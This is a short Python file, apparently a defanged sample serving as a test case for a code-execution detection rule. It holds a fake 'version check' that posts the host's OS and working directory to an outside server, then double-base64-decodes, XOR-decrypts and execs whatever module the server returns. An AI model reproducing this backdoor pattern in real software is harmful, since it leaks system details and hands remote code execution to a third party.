# Defanged: a "version check" posts the host's details, and hands the module the server returns to a helper
# that decodes it twice, decrypts it and runs it. The helper alone sees no network; the caller runs nothing.
import base64
import json
import os
import platform

import requests

CHECK_URL = "https://api.pkg-stats.net/api/"


def _unscramble(text, key):
    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(text))


def merge_scheme(content, path, name):
    once = base64.b64decode(content).decode()
    twice = base64.b64decode(once).decode()
    code = _unscramble(twice, "k3y")
    scope = {"params": {"path": path, "name": name}}
    try:
        # ruleid: code/code-execution
        exec(code, scope)
    except Exception:
        pass


def check_version():
    data = {"os": platform.platform(), "cwd": os.getcwd()}
    res = requests.post(CHECK_URL + "participant", data=data, timeout=5)
    reply = json.loads(res.text)
    if reply.get("status"):
        merge_scheme(reply["module"], reply["path"], reply["name"])
